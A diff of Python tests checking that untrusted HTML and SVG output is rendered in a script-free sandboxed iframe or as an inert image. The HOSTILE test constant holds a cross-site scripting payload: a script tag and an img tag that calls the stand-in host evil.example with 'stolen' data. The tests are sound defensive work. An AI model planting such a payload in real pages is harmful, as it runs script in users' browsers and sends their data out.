@@ -499,7 +499,8 @@ HOSTILE = "<script>alert(1)</script><img src=https://evil.example/?stolen onerro
 
 
 def test_html_of_the_guest_is_shown_in_a_frame_without_scripts_origin_or_network():
-    bundle = made({"text/html": HOSTILE, "text/plain": "\x1b[2J"})._repr_mimebundle_()
+    raw = {"text/html": f"<b>bold</b>{HOSTILE}", "text/plain": "\x1b[2J"}
+    bundle = made(raw)._repr_mimebundle_()
     shown = bundle["text/html"]
     assert bundle["text/plain"] == "\\x1b[2J"
     assert shown.startswith('<iframe sandbox="" srcdoc="')
@@ -509,7 +510,9 @@ def test_html_of_the_guest_is_shown_in_a_frame_without_scripts_origin_or_network
     assert "default-src 'none'" in inner
     assert "<script" not in inner
     assert "evil.example" not in inner
+    assert "<b>bold</b>" in inner
     assert shown.count("<") == 2
+    assert "text/html" not in made({"text/html": HOSTILE})._repr_mimebundle_(), "nothing is left"
 
 
 def test_a_quote_in_html_does_not_end_the_frame():
@@ -520,7 +523,7 @@ def test_a_quote_in_html_does_not_end_the_frame():
 
 def test_an_svg_of_the_guest_is_shown_as_an_image_that_runs_nothing():
     shown = made({"image/svg+xml": f"<svg>{HOSTILE}</svg>"})._repr_mimebundle_()["text/html"]
-    assert shown.startswith('<div><img src="data:image/svg+xml;base64,')
+    assert shown.startswith('<div><img alt="" src="data:image/svg+xml;base64,')
     assert "script" not in shown
 
 
